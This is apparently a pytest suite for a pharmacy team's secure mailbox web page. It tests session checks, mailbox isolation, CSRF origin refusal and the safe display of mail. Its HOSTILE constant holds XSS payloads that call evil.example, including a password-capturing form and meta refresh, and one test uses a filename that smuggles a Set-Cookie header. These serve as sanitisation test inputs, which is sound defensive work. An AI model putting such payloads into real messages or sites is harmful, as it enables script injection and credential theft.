"""The calls of the page Pharmacie: only for whoever signed in, only the own mailbox, hostile mail made harmless."""

from __future__ import annotations

import asyncio
import json
from base64 import b64encode
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from simulator.app import Simulator
from tests.builders import a_code
from tests.web.conftest import DOCTOR, ISABELLE, KARIM, TEAM, letter, problem, visitor
from tests.xdm import samples

pytestmark = [pytest.mark.sockets]
ZOE = "275126322074974"
CALLS = [
    ("GET", "/pages/mail/folders"), ("GET", "/pages/mail/messages"), ("POST", "/pages/mail/messages"),
    ("POST", "/pages/mail/messages/1.1/open"), ("GET", "/pages/mail/messages/1.1/html"),
    ("GET", "/pages/mail/messages/1.1/files/0"), ("GET", "/pages/mail/messages/1.1/files/0/archive"),
    ("GET", "/pages/mail/messages/1.1/files/0/archive/0"), ("POST", "/pages/mail/messages/1.1/marks"),
    ("POST", "/pages/mail/messages/1.1/move"), ("DELETE", "/pages/mail/messages/1.1"),
    ("POST", "/pages/mail/messages/1.1/receipt"), ("GET", "/pages/mail/messages/1.1/draft"),
    ("POST", "/pages/mail/end"), ("GET", "/pages/mail/suggestions"), ("GET", "/pages/mail/audit"),
    ("GET", "/pages/mail/events"),
]
BODIES: dict[str, object] = {
    "/pages/mail/messages": {"to": [DOCTOR], "subject": "a", "text": "b"}, "/pages/mail/end": {"patient": ZOE},
    "/pages/mail/messages/1.1/move": {"to": "\\Trash"}, "/pages/mail/messages/1.1/marks": {"seen": True},
}


async def sign_in(sim: Simulator, web: httpx.AsyncClient, account: str, password: str, mailbox: str = "") -> None:
    given = {"account": account, "password": password, "mailbox": mailbox}
    if mailbox:
        given["code"] = a_code(account, sim.clock.now())
    answer = await web.post("/pages/session", json=given)
    assert answer.status_code == 201, answer.text


@pytest.fixture
async def page(sim: Simulator) -> AsyncIterator[httpx.AsyncClient]:
    """Isabelle's browser, at the team's mailbox."""
    async with visitor(sim) as client:
        await sign_in(sim, client, ISABELLE, "fontaine-tilleuls", TEAM)
        yield client


async def put(web: httpx.AsyncClient, raw: bytes, mailbox: str = TEAM) -> str:
    answer = await web.post("/api/messages", json={"mailbox": mailbox, "raw": b64encode(raw).decode()})
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def with_file(name: str, type: str, content: bytes) -> bytes:
    return "\r\n".join([
        f"From: {DOCTOR}", f"To: {TEAM}", "Subject: Fichier", "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=x", "", "--x", "", "Bonjour.", "--x",
        f'Content-Type: {type}; name="{name}"', "Content-Transfer-Encoding: base64", "", b64encode(content).decode(),
        "--x--", ""]).encode()


@pytest.mark.parametrize(("method", "path"), CALLS)
async def test_nobody_sees_anything_without_a_session(web: httpx.AsyncClient, method: str, path: str) -> None:
    problem(await web.request(method, path, json=BODIES.get(path)), 401, "signed-out")


@pytest.mark.parametrize(("method", "path"), CALLS)
async def test_a_patient_s_session_opens_no_professional_mailbox(
    sim: Simulator, web: httpx.AsyncClient, method: str, path: str
) -> None:
    await sign_in(sim, web, ZOE, "adrun-patiente")
    told = problem(await web.request(method, path, json=BODIES.get(path)), 401, "signed-out")
    assert "professionnels" in told["french"]


async def test_no_id_of_another_mailbox_is_ever_readable(web: httpx.AsyncClient, page: httpx.AsyncClient) -> None:
    hers = (await letter(web, "Confidentiel", **{"from": TEAM, "to": DOCTOR}))["id"]
    for method, path in CALLS:
        if "1.1" in path:
            answer = await page.request(method, path.replace("1.1", hers), json=BODIES.get(path))
            problem(answer, 404, "not-found")
            assert "Confidentiel" not in answer.text
    folder = hers.partition(".")[0]
    problem(await page.get("/pages/mail/messages", params={"folder": folder}), 404, "not-found")
    forwarding = {"to": [ISABELLE], "answers": hers, "how": "forward"}
    problem(await page.post("/pages/mail/messages", json=forwarding), 404, "not-found")
    problem(await page.post("/pages/mail/end", json={"patient": ZOE, "answers": hers}), 404, "not-found")
    assert (await web.get(f"/api/messages/{hers}")).json()["flags"] == []


async def test_who_leaves_the_team_sees_nothing_more_with_the_same_cookie(
    sim: Simulator, web: httpx.AsyncClient
) -> None:
    await sign_in(sim, web, KARIM, "benali-tilleuls", TEAM)
    assert (await web.get("/pages/mail/folders")).status_code == 200
    await sim.controls.mailboxes.remove_member(TEAM, KARIM)
    problem(await web.get("/pages/mail/folders"), 401, "signed-out")


async def test_the_list_tells_patients_from_professionals(
    sim: Simulator, web: httpx.AsyncClient, page: httpx.AsyncClient
) -> None:
    await letter(web, "XDM/1.0/DDM+Compte rendu ADRUN ZOE")
    sent = await web.post(f"/api/patients/{ZOE}/messages", json={"to": TEAM, "body": "Bonjour", "subject": "Stock"})
    assert sent.status_code == 201
    await sim.settle()
    told = (await page.get("/pages/mail/messages")).json()
    by_sort = {item["author"]["sort"]: item for item in told["items"]}
    assert told["total"] == 2 and set(by_sort) == {"patient", "professional"}
    assert by_sort["patient"]["author"]["patient"]["ins"] == ZOE
    doctor = by_sort["professional"]
    assert (doctor["subject"], doctor["raw_subject"]) == (
        "Compte rendu ADRUN ZOE", "XDM/1.0/DDM+Compte rendu ADRUN ZOE")
    assert all(item["unread"] for item in told["items"])


async def test_a_patient_is_answered_and_the_exchange_ends(
    sim: Simulator, web: httpx.AsyncClient, page: httpx.AsyncClient
) -> None:
    await web.post(f"/api/patients/{ZOE}/messages", json={"to": TEAM, "body": "Bonjour", "subject": "Stock"})
    await sim.settle()
    (item,) = (await page.get("/pages/mail/messages")).json()["items"]
    opened = (await page.post(f"/pages/mail/messages/{item['id']}/open")).json()
    assert (opened["exchange"], opened["unread"]) == ("open", False)
    draft = (await page.get(f"/pages/mail/messages/{item['id']}/draft", params={"how": "reply"})).json()
    answer = {"to": [one["address"] for one in draft["to"]], "subject": draft["subject"], "text": "Oui.",
              "answers": item["id"], "wants_receipt": True}
    assert (await page.post("/pages/mail/messages", json=answer)).status_code == 201
    assert (await page.post("/pages/mail/end", json={"patient": ZOE, "answers": item["id"]})).status_code == 201
    await sim.settle()
    (conversation,) = (await web.get(f"/api/patients/{ZOE}/conversations")).json()["items"]
    assert conversation["state"] == "closed" and conversation["ended_by"]
    audit = (await page.get("/pages/mail/audit", params={"person": ISABELLE})).json()["items"]
    assert [line["what"] for line in audit].count("a envoyé un message") == 2
    assert {line["person"] for line in audit} == {"Isabelle Fontaine"}


async def test_a_refusal_tells_the_rule_and_nothing_is_sent(page: httpx.AsyncClient) -> None:
    told = problem(await page.post("/pages/mail/messages", json={"to": ["ami@courriel.example"], "subject": "a"}),
                   403, "refused")
    assert told["rule"] == "recipient-domain-is-listed" and told["french"] and told["explain"]
    assert (await page.get("/pages/mail/messages", params={"folder": "\\Sent"})).json()["total"] == 0


HOSTILE = (
    '<script>document.title="owned"</script><img src="http://evil.example/pixel.png" onerror="alert(1)">'
    '<a href="javascript:alert(1)">clic</a><iframe src="http://evil.example"></iframe><style>*{display:none}</style>'
    '<form action="http://evil.example"><input name="password"></form><svg onload="alert(1)"></svg>'
    '<body onload="alert(1)"><meta http-equiv="refresh" content="0;url=http://evil.example"><p>Bonjour</p>'
)


async def test_hostile_html_is_words_in_a_frame_that_runs_and_fetches_nothing(
    web: httpx.AsyncClient, page: httpx.AsyncClient
) -> None:
    id = await put(web, f"From: {DOCTOR}\r\nContent-Type: text/html\r\n\r\n{HOSTILE}".encode())
    shown = await page.get(f"/pages/mail/messages/{id}/html")
    policy = shown.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'") and "script-src" not in policy
    body = shown.text.partition("<body>")[2]
    for danger in ("script", "onerror", "onload", "javascript:", "<img", "iframe", "evil.example", "display:none",
                   "<form", "<input", "<svg", "refresh"):
        assert danger not in body, danger
    assert "<p>Bonjour</p>" in body


@pytest.mark.parametrize(("name", "type"), [
    ("page.html", "text/html"), ("dessin.svg", "image/svg+xml"), ("x.js", "text/javascript"), ("a.xml", "text/xml"),
])
async def test_a_file_that_could_run_is_only_saved(
    web: httpx.AsyncClient, page: httpx.AsyncClient, name: str, type: str
) -> None:
    id = await put(web, with_file(name, type, b"<script>alert(1)</script>"))
    got = await page.get(f"/pages/mail/messages/{id}/files/0", params={"inline": "true"})
    assert got.headers["content-type"] == "application/octet-stream"
    assert got.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in got.headers["content-security-policy"] and got.headers["x-content-type-options"] == "nosniff"


async def test_a_name_of_a_file_breaks_no_header(web: httpx.AsyncClient, page: httpx.AsyncClient) -> None:
    id = await put(web, with_file("=?utf-8?q?a=0D=0ASet-Cookie:_x=3D1.pdf?=", "application/pdf", b"%PDF-1.7"))
    got = await page.get(f"/pages/mail/messages/{id}/files/0", params={"inline": "true"})
    assert got.status_code == 200 and "set-cookie" not in got.headers
    assert got.headers["content-type"] == "application/pdf"


async def test_an_archive_shows_its_patient_and_documents(web: httpx.AsyncClient, page: httpx.AsyncClient) -> None:
    id = await put(web, with_file("IHE_XDM.zip", "application/zip", samples.archive()))
    shown = (await page.get(f"/pages/mail/messages/{id}/files/0/archive")).json()
    assert shown["is_sound"] and shown["patient"]["ins"] == "279035121518989"
    (document,) = shown["documents"]
    got = await page.get(f"/pages/mail/messages/{id}/files/0/archive/0", params={"inline": "true"})
    assert got.headers["content-type"] == ("application/pdf" if document["has_pdf"] else "application/octet-stream")
    problem(await page.get(f"/pages/mail/messages/{id}/files/0/archive/7"), 404, "not-found")


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04broken", b"x" * 100_000])
async def test_a_broken_archive_tells_what_is_wrong(
    web: httpx.AsyncClient, page: httpx.AsyncClient, content: bytes
) -> None:
    id = await put(web, with_file("IHE_XDM.zip", "application/zip", content))
    shown = (await page.get(f"/pages/mail/messages/{id}/files/0/archive")).json()
    assert not shown["is_sound"] and shown["problems"] and shown["documents"] == []


async def test_a_huge_message_is_shown_within_bounds(web: httpx.AsyncClient, page: httpx.AsyncClient) -> None:
    head = f"From: {DOCTOR}\r\nSubject: {'s' * 100_000}\r\n\r\n".encode()
    id = await put(web, head + b"mot " * 1_500_000)
    (item,) = (await page.get("/pages/mail/messages")).json()["items"]
    assert len(item["subject"]) == 500
    opened = await page.post(f"/pages/mail/messages/{id}/open")
    assert opened.status_code == 200 and len(opened.content) < 1_000_000


@pytest.mark.parametrize("given", [
    {"to": [DOCTOR], "mailbox": DOCTOR}, {"to": DOCTOR}, {"to": [DOCTOR], "how": "delete"}, {},
    {"to": [DOCTOR], "files": [{"name": "a.pdf", "content": "%%%"}]}, {"to": [DOCTOR], "kept_files": ["0"]},
])
async def test_what_does_not_fit_is_told(page: httpx.AsyncClient, given: dict[str, Any]) -> None:
    problem(await page.post("/pages/mail/messages", json=given), 422, "invalid")


async def test_another_site_changes_nothing_with_the_cookie(page: httpx.AsyncClient) -> None:
    answer = await page.post("/pages/mail/end", json={"patient": ZOE}, headers={"origin": "http://evil.example"})
    problem(answer, 403, "cross-site")


async def next_event(lines: AsyncIterator[str], kind: str) -> dict[str, Any]:
    async for line in lines:
        if line == f"event: {kind}":
            told: dict[str, Any] = json.loads((await anext(lines)).removeprefix("data: "))
            return told
    raise AssertionError(f"the stream ended without {kind}")


async def test_new_mail_is_told_at_once_and_only_that_of_the_own_mailbox(
    web: httpx.AsyncClient, page: httpx.AsyncClient
) -> None:
    async with asyncio.timeout(20), page.stream("GET", "/pages/mail/events") as stream:
        assert stream.headers["content-type"].startswith("text/event-stream")
        lines = stream.aiter_lines()
        await next_event(lines, "ready")
        await letter(web, "À un autre", **{"from": TEAM, "to": DOCTOR})
        await letter(web, "À la pharmacie")
        told = await next_event(lines, "change")
        assert (told["name"], told["added"]) == ("INBOX", 1)


async def test_the_stream_ends_with_the_membership(sim: Simulator, web: httpx.AsyncClient) -> None:
    async with visitor(sim) as karim:
        await sign_in(sim, karim, KARIM, "benali-tilleuls", TEAM)
        async with asyncio.timeout(20), karim.stream("GET", "/pages/mail/events") as stream:
            lines = stream.aiter_lines()
            await next_event(lines, "ready")
            await sim.controls.mailboxes.remove_member(TEAM, KARIM)
            await letter(web, "Pour ceux qui restent")
            assert await next_event(lines, "over") == {}


async def test_no_call_of_the_page_is_in_the_description_of_the_api(web: httpx.AsyncClient) -> None:
    assert not [path for path in (await web.get("/openapi.json")).json()["paths"] if path.startswith("/pages")]
